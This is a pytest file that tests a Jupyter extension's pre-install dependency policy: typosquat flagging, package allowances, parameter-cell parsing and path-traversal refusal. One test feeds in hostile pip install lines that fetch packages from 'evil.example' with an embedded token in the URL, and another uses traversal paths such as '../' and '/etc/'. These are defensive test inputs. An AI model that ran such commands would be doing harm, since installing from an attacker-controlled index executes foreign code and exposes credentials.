"""``POST promote/plan``: a notebook's dependencies with the policy's verdicts, and its
parameters, before anything installs; on a real server, real notebook files, the real policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import nbformat
import pytest
from traitlets.config import Config

from watchdog_lab.bots.kernelspec import kernel_name

from .botapi import bot_path, promote, write_notebook

PASSWORD = "correct horse battery staple"
#: One transposition from ``requests``: the typosquat rule flags it, an allowance lifts it.
LOOKALIKE = "reqeusts"
TOKEN = "ghp_" + "T0ken" * 6
PARAMETERS_CELL = "symbol = 'BTC-USD'\nsize: float = 0.5  # units\nwindow = (1, 2)"

pytestmark = pytest.mark.usefixtures("stop_bots")


@pytest.fixture
def jp_server_config(bots_server_config: Config) -> Config:
    return bots_server_config


def parameterised_notebook(path: Path, *sources: str) -> Path:
    """A notebook whose first cell is tagged ``parameters``, then one cell per source."""
    write_notebook(path, PARAMETERS_CELL, *sources)
    nb = nbformat.read(str(path), as_version=4)
    nb.cells[0].metadata["tags"] = ["parameters"]
    nbformat.write(nb, str(path))
    return path


def by_spec(plan: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {d["spec"]: d for d in plan["dependencies"]}


async def test_a_lookalike_import_is_flagged_with_the_reason_and_the_stdlib_is_not_listed(
    api, jp_root_dir: Path
) -> None:
    parameterised_notebook(jp_root_dir / "s.ipynb", f"import json\nimport {LOOKALIKE}")
    response = await api.post("promote/plan", {"notebook": "s.ipynb"})
    assert response.code == 200, response.text
    plan = response.json
    assert list(by_spec(plan)) == [LOOKALIKE]
    flagged = by_spec(plan)[LOOKALIKE]
    assert flagged["verdict"] == "flagged" and flagged["rule"] == "typosquat"
    assert "requests" in flagged["reason"]
    assert flagged["origins"] == [f"import {LOOKALIKE} (cell 2)"]
    assert plan["ok"] is False and plan["allow_flag"] == "--allow-package"


async def test_allowing_the_flagged_name_approves_it_and_says_the_allowance_did(
    api, jp_root_dir: Path
) -> None:
    parameterised_notebook(jp_root_dir / "s.ipynb", f"import {LOOKALIKE}")
    plan = (
        await api.post("promote/plan", {"notebook": "s.ipynb", "allow_packages": ["Reqeusts"]})
    ).json
    approved = by_spec(plan)[LOOKALIKE]
    assert approved["verdict"] == "approved" and approved["allowed"] is True
    assert plan["ok"] is True


async def test_the_parameters_cell_is_read_with_its_defaults_as_written(
    api, jp_root_dir: Path
) -> None:
    parameterised_notebook(jp_root_dir / "s.ipynb", "print(symbol)")
    plan = (await api.post("promote/plan", {"notebook": "s.ipynb"})).json
    assert plan["has_parameters_cell"] is True
    assert plan["parameters"] == [
        {"name": "symbol", "default": "'BTC-USD'", "value": "BTC-USD", "literal": True},
        {"name": "size", "default": "0.5", "value": 0.5, "literal": True},
        # A tuple would come back from JSON as a list: shown, but not offered as JSON.
        {"name": "window", "default": "(1, 2)", "value": None, "literal": False},
    ]
    assert plan["dependencies"] == [] and plan["ok"] is True


async def test_hostile_requests_are_refused_for_good_and_a_url_token_never_comes_back(
    api, jp_root_dir: Path
) -> None:
    write_notebook(
        jp_root_dir / "h.ipynb",
        f"%pip install https://bob:{TOKEN}@evil.example/x.whl\n%pip install pip\n"
        "!pip install --index-url http://evil.example/simple numpy",
    )
    response = await api.post("promote/plan", {"notebook": "h.ipynb", "allow_packages": ["pip"]})
    assert response.code == 200
    assert TOKEN not in response.text
    verdicts = {d["rule"]: d["verdict"] for d in response.json["dependencies"] if d["rule"]}
    # An allowance lifts only the typosquat rule: an installer stays refused when "allowed".
    assert verdicts == {"url": "refused", "denylist": "refused", "option": "refused"}
    assert response.json["ok"] is False


async def test_the_promote_refuses_exactly_what_the_plan_flagged(
    api, make_vault, jp_root_dir: Path
) -> None:
    make_vault(PASSWORD)
    parameterised_notebook(jp_root_dir / "s.ipynb", f"import {LOOKALIKE}")
    plan = (await api.post("promote/plan", {"notebook": "s.ipynb"})).json
    flagged = [d["spec"] for d in plan["dependencies"] if d["verdict"] != "approved"]
    refused = await api.post("bots", {"notebook": "s.ipynb", "name": "Lookalike"})
    assert refused.code == 422 and refused.json["reason"] == "packages_refused"
    assert flagged == [LOOKALIKE]
    assert f"'{LOOKALIKE}' refused (typosquat)" in refused.json["message"]
    assert (await api.get("bots")).json == {"bots": []}


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("../outside.ipynb", "invalid_path"),
        ("/etc/outside.ipynb", "invalid_path"),
        ("link/outside.ipynb", "invalid_path"),
        ("missing.ipynb", "notebook_not_found"),
    ],
)
async def test_a_notebook_outside_the_jupyter_root_is_never_read(
    api, jp_root_dir: Path, tmp_path: Path, path: str, reason: str
) -> None:
    outside = tmp_path / "elsewhere"
    write_notebook(outside / "outside.ipynb", f"import {LOOKALIKE}")
    (jp_root_dir / "link").symlink_to(outside)
    response = await api.post("promote/plan", {"notebook": path})
    assert response.code in (400, 404, 422), response.text
    assert response.json["reason"] == reason
    assert LOOKALIKE not in response.text


async def test_unknown_fields_are_refused(api, jp_root_dir: Path) -> None:
    write_notebook(jp_root_dir / "s.ipynb", "print(1)")
    response = await api.post("promote/plan", {"notebook": "s.ipynb", "password": PASSWORD})
    assert response.code in (400, 422) and PASSWORD not in response.text


async def test_a_bots_notebook_comes_as_a_copy_on_its_own_kernel_and_its_version_is_untouched(
    api, make_vault, watchdog_home: Path, jp_root_dir: Path
) -> None:
    make_vault(PASSWORD)
    parameterised_notebook(jp_root_dir / "s.ipynb", "print(symbol)")
    bot = await promote(api, notebook="s.ipynb", name="Copied")
    version = watchdog_home / "bots" / bot["id"] / "notebook" / "v1.ipynb"
    sealed = version.read_bytes()
    response = await api.get(bot_path("Copied", "notebook"))
    assert response.code == 200, response.text
    answer = response.json
    assert answer["kernel_name"] == kernel_name(bot["id"])
    assert answer["notebook"]["metadata"]["kernelspec"]["name"] == answer["kernel_name"]
    assert "".join(answer["notebook"]["cells"][-1]["source"]) == "print(symbol)"
    assert version.read_bytes() == sealed
